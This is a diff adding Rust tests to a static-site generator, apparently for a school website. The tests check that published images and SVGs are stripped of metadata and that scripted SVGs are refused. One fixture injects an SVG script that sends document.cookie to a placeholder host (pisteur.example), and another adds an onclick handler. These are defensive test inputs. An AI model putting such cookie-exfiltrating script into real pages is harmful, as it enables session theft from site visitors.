@@ -350,3 +350,188 @@ fn a_huge_picture_is_reported_too_large_without_being_decoded() {
         .unwrap();
     assert!(status.success());
 }
+
+/// Every marker of the test pictures' metadata.
+const METADATA_MARKERS: [&[u8]; 5] = [
+    b"Exif\0\0",
+    ARTIST.as_bytes(),
+    SERIAL.as_bytes(),
+    GPS_MARKER.as_bytes(),
+    XMP_WORD.as_bytes(),
+];
+
+/// A testimonial bundle `content/temoignages/julien/` whose `index.md`
+/// has `front` (under `author:`) and `body`.
+fn julien(root: &Path, photo: &str, body: &str) -> std::path::PathBuf {
+    write_skeleton(root, SITE_YAML);
+    let bundle = root.join("content/temoignages/julien");
+    write(
+        &bundle.join("index.md"),
+        &format!(
+            "---\ntitle: \"Julien en stage\"\ndate: 2024-03-01\nauthor:\n  name: \"Julien\"\n{photo}\
+             consent:\n  obtained: 2024-02-01\n---\nSa semaine.\n\n{body}"
+        ),
+    );
+    bundle
+}
+
+/// The first error whose header holds `word`, and the ` --> file:line:col`
+/// line under it.
+fn error_and_place<'a>(stderr: &'a str, word: &str) -> (&'a str, &'a str) {
+    let lines: Vec<&str> = stderr.lines().collect();
+    let i = lines
+        .iter()
+        .position(|l| l.starts_with("erreur") && l.contains(word))
+        .unwrap_or_else(|| panic!("no error with {word}:\n{stderr}"));
+    (lines[i], lines.get(i + 1).copied().unwrap_or(""))
+}
+
+#[test]
+fn jpeg_under_any_of_its_extensions_is_published_without_metadata() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let bundle = julien(
+        root,
+        "  photo: IMG_0002.jfif\n  photo_alt: \"Julien\"\n",
+        "![Le bureau](bureau.jpe)\n\n[La photo](x.jfif)\n\n![L'équipe](EQUIPE.JFIF)\n",
+    );
+    for name in ["IMG_0002.jfif", "bureau.jpe", "x.jfif", "EQUIPE.JFIF"] {
+        jpeg_with_metadata(&bundle.join(name), 700, 500);
+    }
+    build_ok(root);
+    let out = root.join("public/temoignages/julien");
+    for name in ["IMG_0002.jfif", "bureau.jpe", "x.jfif", "EQUIPE.JFIF"] {
+        let bytes = std::fs::read(out.join(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
+        for marker in METADATA_MARKERS {
+            assert!(
+                !contains(&bytes, marker),
+                "{name} holds {:?}",
+                String::from_utf8_lossy(marker)
+            );
+        }
+        // Re-encoded, upright (stored 700 × 500, orientation 6), still JPEG.
+        let img = image::load_from_memory_with_format(&bytes, image::ImageFormat::Jpeg).unwrap();
+        assert_eq!((img.width(), img.height()), (500, 700), "{name}");
+    }
+}
+
+#[test]
+fn pictures_vitrine_cannot_clean_are_errors_at_the_line_that_uses_them() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let names = [
+        "scan.tif",
+        "plan.TIFF",
+        "anim.gif",
+        "IMG_0001.HEIC",
+        "photo.heif",
+        "photo.avif",
+        "dessin.bmp",
+    ];
+    let body: String = names
+        .iter()
+        .enumerate()
+        .map(|(i, n)| {
+            if i % 2 == 0 {
+                format!("![Image {i}]({n})\n\n")
+            } else {
+                format!("[Fichier {i}]({n})\n\n")
+            }
+        })
+        .collect();
+    let bundle = julien(root, "", &body);
+    for name in names {
+        // Real JPEG bytes with metadata: were it copied, it would leak.
+        jpeg_with_metadata(&bundle.join(name), 40, 30);
+    }
+    let stderr = build_fails(root);
+    let index = std::fs::read_to_string(bundle.join("index.md")).unwrap();
+    for name in names {
+        let line = index
+            .lines()
+            .position(|l| l.contains(name))
+            .map(|i| i + 1)
+            .unwrap();
+        let at = format!("content/temoignages/julien/index.md:{line}:");
+        let (error, place) = error_and_place(&stderr, name);
+        assert!(error.ends_with("[unsupported-picture]"), "{error}");
+        assert!(place.contains(&at), "{error} not at {at}: {place}");
+    }
+    assert_eq!(
+        stderr
+            .matches("convertissez-la en JPEG, PNG ou WebP")
+            .count(),
+        names.len(),
+        "{stderr}"
+    );
+    assert!(!root.join("public").exists());
+    // `check` says the same.
+    let out = vitrine()
+        .args(["check", "--root"])
+        .arg(root)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+}
+
+#[test]
+fn a_testimonial_photo_vitrine_cannot_clean_is_an_error() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let bundle = julien(
+        root,
+        "  photo: IMG_0001.HEIC\n  photo_alt: \"Julien\"\n",
+        "",
+    );
+    jpeg_with_metadata(&bundle.join("IMG_0001.HEIC"), 40, 30);
+    let stderr = build_fails(root);
+    assert!(
+        stderr.contains("content/temoignages/julien/IMG_0001.HEIC")
+            && stderr.contains("[unsupported-picture]")
+            && stderr.contains("HEIC"),
+        "{stderr}"
+    );
+}
+
+const LOGO_SVG: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
+<!-- Dessiné par Ines Benali-Photographe -->
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
+  xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"
+  viewBox="0 0 10 10" inkscape:export-filename="/home/ines/SN-4242-VITRINE.png">
+  <metadata><rdf:RDF><dc:creator>xmp-vitrine-secret</dc:creator></rdf:RDF></metadata>
+  <title>Logo</title>
+  <rect width="10" height="10" fill="#c33"/>
+</svg>
+"##;
+
+#[test]
+fn an_svg_is_published_without_metadata_and_refused_with_a_script() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write_skeleton(root, SITE_YAML);
+    write(
+        &root.join("content/a-propos.md"),
+        "---\ntitle: \"À propos\"\n---\n![Logo du lycée](logo.svg)\n",
+    );
+    write(&root.join("content/logo.svg"), LOGO_SVG);
+    build_ok(root);
+    let published = std::fs::read_to_string(root.join("public/logo.svg")).unwrap();
+    for secret in [ARTIST, SERIAL, XMP_WORD, "/home/ines", "<metadata"] {
+        assert!(!published.contains(secret), "{secret} in {published}");
+    }
+    assert!(published.contains("<rect width=\"10\" height=\"10\" fill=\"#c33\"/>"));
+
+    let scripted = LOGO_SVG.replace(
+        "<title>Logo</title>",
+        "<title>Logo</title>\n  <script>fetch('https://pisteur.example/?'+document.cookie)</script>",
+    );
+    write(&root.join("content/logo.svg"), &scripted);
+    let stderr = build_fails(root);
+    let (error, place) = error_and_place(&stderr, "[unsafe-svg]");
+    assert!(place.contains("content/logo.svg:8:"), "{place}");
+    assert!(error.contains("script"), "{error}");
+    let with_event = LOGO_SVG.replace("<rect ", "<rect onclick=\"alert(1)\" ");
+    write(&root.join("content/logo.svg"), &with_event);
+    let stderr = build_fails(root);
+    assert!(stderr.contains("`onclick`"), "{stderr}");
+}
